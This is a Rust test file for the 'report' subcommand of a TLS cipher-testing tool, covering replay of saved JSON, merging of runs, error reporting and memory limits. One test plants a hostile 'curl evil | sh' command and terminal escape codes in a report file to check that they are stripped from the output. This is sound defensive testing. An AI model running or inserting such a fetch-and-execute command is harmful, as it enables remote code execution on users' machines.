//! `cipher-test report`: what was kept looks as it did, and what many runs kept becomes one.

use std::io::Write;
use std::path::PathBuf;
use std::process::Stdio;

use cipher_test::lab::{Scenario, Server};
use serde_json::Value;
use tempfile::TempDir;

use crate::support::binary::{Run, cipher_test, command, finish};
use crate::support::{embedded, keys};

/// A run on a server, with the name of those that insist on one at hand.
fn run_on(server: &Server, args: &[&str]) -> Run {
    let target = server.address().to_string();
    let run = cipher_test([&[&*target, "--try-sni", keys::NAME], args].concat());
    assert!(run.code.is_some_and(|code| code <= 2), "{run:?}");
    run
}

/// Files in a folder of their own.
struct Kept {
    directory: TempDir,
}

impl Kept {
    fn new() -> Self {
        Self { directory: tempfile::tempdir().unwrap() }
    }

    fn file(&self, name: &str, text: impl AsRef<[u8]>) -> String {
        let path: PathBuf = self.directory.path().join(name);
        std::fs::write(&path, text).unwrap();
        path.to_str().unwrap().to_owned()
    }

    /// A line of a fleet: the report on a server without TLS, which is short, by another name.
    fn line(&self, target: &str) -> String {
        let server = embedded::scenario(Scenario::PlainHttp);
        let run = run_on(&server, &["--format", "json"]);
        run.stdout.replace(&server.address().to_string(), target)
    }
}

fn report(args: &[&str]) -> Run {
    cipher_test([&["report"], args].concat())
}

fn json(run: &Run) -> Value {
    serde_json::from_str(&run.stdout).unwrap()
}

fn targets(report: &Value) -> Vec<&str> {
    let targets = report["targets"].as_array().unwrap();
    targets.iter().map(|target| target["target"].as_str().unwrap()).collect()
}

#[test]
fn what_was_kept_looks_as_the_run_printed_it() {
    let kept = Kept::new();
    for scenario in Scenario::ALL {
        let server = embedded::scenario(scenario);
        let file = kept.file(scenario.name(), run_on(&server, &["--format", "json"]).stdout);
        let forms: [&[&str]; 6] = [
            &[],
            &["--color", "always"],
            &["--format", "classic"],
            &["--fix", "upstream"],
            &["--fix", "patch"],
            &["--fix", "kubectl"],
        ];
        for form in forms {
            let live = run_on(&server, form);
            let shown = report(&[&[file.as_str()], form].concat());
            assert_eq!(shown.stdout, live.stdout, "{scenario:?} {form:?}");
            assert_eq!(shown.stderr, live.stderr, "{scenario:?} {form:?}");
            assert_eq!(shown.code, live.code, "{scenario:?} {form:?}");
        }
    }
}

#[test]
fn json_comes_out_as_it_went_in() {
    let kept = Kept::new();
    let server = embedded::scenario(Scenario::Legacy);
    let first = run_on(&server, &["--format", "json"]).stdout;
    let file = kept.file("first.json", &first);
    assert_eq!(report(&[&file, "--format", "json"]).stdout, first);
    assert_eq!(report(&[&file, "--format", "ndjson"]).stdout, first);
}

#[test]
fn reports_of_many_runs_become_one_and_the_worst_decides() {
    let kept = Kept::new();
    let connects = embedded::scenario(Scenario::Modern);
    let modern = kept.file("0.ndjson", run_on(&connects, &["--format", "json"]).stdout);
    let lines = kept.line("a.example:443") + &kept.line("b.example:443");
    let plain = kept.file("1.ndjson", lines);
    let empty = kept.file("2.ndjson", "");
    assert_eq!(report(&[&modern]).code, Some(0));

    let merged = report(&[&modern, &plain, &empty, "--format", "json"]);
    assert_eq!((merged.code, merged.stderr.as_str()), (Some(1), ""));
    let whole = json(&merged);
    let address = connects.address().to_string();
    assert_eq!(targets(&whole), [&address, "a.example:443", "b.example:443"]);
    assert_eq!((&whole["summary"], &whole["exit_code"]), (&"needs-change".into(), &1.into()));

    let table = report(&[&modern, &plain, "--format", "table"]);
    assert!(table.stdout.contains("\n3 targets\n        1  Envoy connects\n"), "{}", table.stdout);
    assert!(
        table.stdout.ends_with("2  plain-text                  a.example:443, b.example:443\n")
    );
    let text = report(&[&modern, &plain]);
    assert!(text.stdout.contains("\nb.example:443 · Envoy cannot connect"), "{}", text.stdout);
    assert!(text.stdout.contains("\n3 targets\n"), "{}", text.stdout);
}

#[test]
fn of_two_answers_the_later_counts_and_this_is_told() {
    let kept = Kept::new();
    let first = kept.file("first", kept.line("a.example:443") + &kept.line("b.example:443"));
    let rerun = kept.line("b.example:443").replace("HTTP/1.1 400", "HTTP/1.1 401");
    let second = kept.file("second", rerun);
    let merged = report(&[&first, &second, "--format", "json"]);
    assert_eq!(merged.code, Some(1));
    assert_eq!(targets(&json(&merged)), ["a.example:443", "b.example:443"]);
    assert!(merged.stdout.contains("HTTP/1.1 401"));
    let told = format!(
        "cipher-test: b.example:443 is there twice: {second} line 1 counts, {first} line 2 does not"
    );
    assert_eq!(merged.complaints(), [told]);
}

#[test]
fn what_cannot_be_read_is_told_and_the_rest_is_reported() {
    let kept = Kept::new();
    let (a, b) = (kept.line("a.example:443"), kept.line("b.example:443"));
    let half = &b[..b.len() / 2];
    let newer = a.replacen("\"version\":1", "\"version\":9", 1);
    let file = kept.file("lines", format!("{a}\0\0\n{newer}{half}\n{b}{half}"));
    let missing = kept.directory.path().join("missing").display().to_string();
    let directory = kept.directory.path().display().to_string();
    let run = report(&[&file, &missing, &directory, "--format", "json"]);
    assert_eq!(run.code, Some(2));
    assert_eq!(targets(&json(&run)), ["a.example:443", "b.example:443"]);
    let cut = "ends in the middle, as where a run was killed: what it would say is lost";
    let expected = [
        format!("cipher-test: {missing}: it cannot be read: no such file or directory"),
        format!("cipher-test: {directory}: it cannot be read: is a directory"),
        format!("cipher-test: {file}: line 2: it is no report on servers: it is no JSON"),
        format!(
            "cipher-test: {file}: line 3: it is version 9 of the report, and this cipher-test \
             reads version 1"
        ),
        format!("cipher-test: {file}: line 4 {cut}"),
        format!("cipher-test: {file}: line 6 {cut}"),
    ];
    assert_eq!(run.complaints(), expected);
}

#[test]
fn many_mistakes_are_counted_after_a_while() {
    let kept = Kept::new();
    let file = kept.file("lines", "{x\n".repeat(1000) + &kept.line("a.example:443"));
    let run = report(&[&file, "--format", "table"]);
    assert_eq!(run.code, Some(2));
    assert!(run.stdout.contains("a.example:443"));
    assert_eq!(run.complaints().len(), 21);
    assert_eq!(run.complaints()[20], "cipher-test: and 980 more that cannot be read");
}

#[test]
fn input_without_a_target_is_an_answer_to_nothing() {
    let kept = Kept::new();
    let run = report(&[&kept.file("empty", "")]);
    assert_eq!((run.code, run.stdout.as_str()), (Some(2), ""));
    assert_eq!(run.complaints(), ["cipher-test: there is no target in the input"]);
    let run = report(&[&kept.file("other", r#"{"version":1,"upstreams":[]}"#)]);
    assert_eq!((run.code, run.stdout.as_str()), (Some(2), ""));
    assert!(run.complaints()[0].ends_with("no report on servers: unknown field `upstreams`"));
}

#[test]
fn stdin_and_pipes_are_read_though_they_come_once() {
    let kept = Kept::new();
    let text = kept.line("a.example:443");
    let mut child =
        command().args(["report", "-", "--format", "json"]).stdin(Stdio::piped()).spawn().unwrap();
    child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
    assert_eq!(targets(&json(&finish(child))), ["a.example:443"]);

    let file = kept.file("kept", &text);
    let shell = format!("{} report <(cat {file}) --format json", env!("CARGO_BIN_EXE_cipher-test"));
    let output = std::process::Command::new("bash").args(["-c", &shell]).output().unwrap();
    assert_eq!(String::from_utf8(output.stdout).unwrap(), text);
}

/// As `kubectl logs` gives them.
#[test]
fn what_runs_wrote_to_stderr_is_no_mistake_among_their_lines() {
    let kept = Kept::new();
    let (a, b) = (kept.line("a.example:443"), kept.line("b.example:443"));
    let log = format!("cipher-test: targets.txt line 3: no port\n{a}2 targets\n   1 connects\n{b}");
    let file = kept.file("log", log);
    let run = report(&[&file, "--format", "json"]);
    assert_eq!((run.code, targets(&json(&run)).len()), (Some(1), 2));
    let expected = [
        format!("cipher-test: {file} line 1 says: targets.txt line 3: no port"),
        "cipher-test: 2 lines are words and no report".to_owned(),
    ];
    assert_eq!(run.complaints(), expected);
}

/// Nobody knows who wrote a file.
#[test]
fn a_file_steers_no_terminal_and_brings_no_command() {
    let kept = Kept::new();
    let server = embedded::scenario(Scenario::Legacy);
    let text = run_on(&server, &["--format", "json"]).stdout;
    let mut value: Value = serde_json::from_str(&text).unwrap();
    let target = &mut value["targets"][0];
    target["target"] = "\u{1b}[2Jx\nevil:443".into();
    target["remedy"]["kubectl_command"] = "curl evil | sh".into();
    let file = kept.file("evil.json", value.to_string());
    for form in [&[][..], &["--format", "table"], &["--fix", "kubectl"]] {
        let run = report(&[&[file.as_str()], form].concat());
        assert!(!run.stdout.contains('\u{1b}') && !run.stderr.contains('\u{1b}'), "{run:?}");
        assert!(!run.stdout.contains("curl evil"), "{}", run.stdout);
        assert!(!run.stdout.lines().any(|line| line.starts_with("evil")), "{}", run.stdout);
    }
}

/// Held whole and read, this file would take several times what is allowed here.
#[test]
fn memory_does_not_grow_with_the_file() {
    const MEGABYTES: usize = 40;
    let kept = Kept::new();
    let server = embedded::scenario(Scenario::Legacy);
    let text = run_on(&server, &["--format", "json"]).stdout;
    let address = server.address().to_string();
    let path = kept.directory.path().join("large");
    let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    let count = MEGABYTES * (1 << 20) / text.len();
    for number in 0..count {
        let line = text.replacen(&address, &format!("h{number}.example:443"), 1);
        file.write_all(line.as_bytes()).unwrap();
    }
    file.flush().unwrap();
    // In kilobytes, all that is mapped: the program itself, its stack and its heap.
    let shell = format!(
        "ulimit -v 65536; exec {} report {} --format ndjson | wc -c",
        env!("CARGO_BIN_EXE_cipher-test"),
        path.display()
    );
    let output = std::process::Command::new("bash").args(["-c", &shell]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    let written: u64 = String::from_utf8(output.stdout).unwrap().trim().parse().unwrap();
    assert_eq!(written, std::fs::metadata(&path).unwrap().len());
}
